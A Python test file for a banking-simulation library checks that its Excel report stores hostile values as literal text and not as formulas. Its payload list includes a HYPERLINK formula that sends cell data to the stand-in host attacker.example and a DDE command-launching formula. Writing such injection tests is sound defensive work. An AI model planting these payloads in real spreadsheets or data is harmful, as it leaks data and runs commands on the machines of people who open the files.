"""Formula injection: text from data lands in the workbook as text, never as a live formula."""

from __future__ import annotations

import html
import io
import re
import zipfile

import openpyxl
import pytest

import banksim as bs
from banksim.reporting import excel_workbook

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "#N/A",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def workbook() -> bytes:
    positions = bs.generate_positions(400, 21)
    ids = positions["position_id"].astype(str).to_numpy(dtype=object)
    ids[: len(HOSTILE)] = HOSTILE
    positions["position_id"] = ids
    rwa = bs.risk_weighted_assets(positions)
    rwa["rule"] = rwa["rule"].astype(str)
    rwa.loc[rwa.index[-2], "rule"] = "=2+2"  # any text column of the detail, not only the id
    lcr, nsfr, liquidity = bs.liquidity(positions)
    capital = bs.capital_adequacy(rwa, bs.own_funds(positions))
    return excel_workbook(positions, rwa, lcr, nsfr, capital, liquidity, "=SUM(9,9)", "=3+3")


def cells_by_value(book: openpyxl.Workbook, sheet: str) -> dict[object, openpyxl.cell.Cell]:
    return {cell.value: cell for row in book[sheet].iter_rows() for cell in row if cell.value is not None}


def test_hostile_position_ids_are_literal_text(workbook: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    detail = cells_by_value(book, "RWA detail")
    for value in [*HOSTILE, "=2+2"]:
        cell = detail[value]  # the exact string is there, unchanged
        assert cell.data_type == "s", (value, cell.data_type)
    assert detail[HOSTILE[0]].quotePrefix  # Excel keeps it text when the cell is edited
    assert not detail["credit"].quotePrefix  # ordinary text is left plain


def test_no_formula_element_carries_data(workbook: bytes) -> None:
    """In the file itself: the only <f> elements are banksim's own (surplus, RWA totals), and the
    hostile values, scenario name and params hash included, are there as text: shared strings
    (<si><t>), or inline strings (<is><t>) for the detail's identifiers."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        names = {n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
        xml = {n: archive.read(n).decode() for n in names}
        strings = archive.read("xl/sharedStrings.xml").decode()  # the text cells' values
    formulas = [f for text in xml.values() for f in re.findall(r"<f>(.*?)</f>", text)]
    assert formulas and all(re.fullmatch(r"B\d+-C\d+|SUM\([A-Z]\d+:[A-Z]\d+\)", f) for f in formulas)
    shared = set(re.findall(r"<si><t>(.*?)</t></si>", strings))
    inline = {
        t
        for text in xml.values()
        for t in re.findall(r'<c [^>]*t="inlineStr"><is><t>(.*?)</t></is></c>', text)
    }
    texts = {html.unescape(t) for t in shared | inline}
    assert {*HOSTILE, "=2+2", "=SUM(9,9)", "=3+3"} <= texts  # present, each as a text element


def test_scenario_and_hash_are_literal_text(workbook: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    summary = cells_by_value(book, "Summary")
    for value in ["=SUM(9,9)", "=3+3"]:
        assert summary[value].data_type == "s" and summary[value].quotePrefix
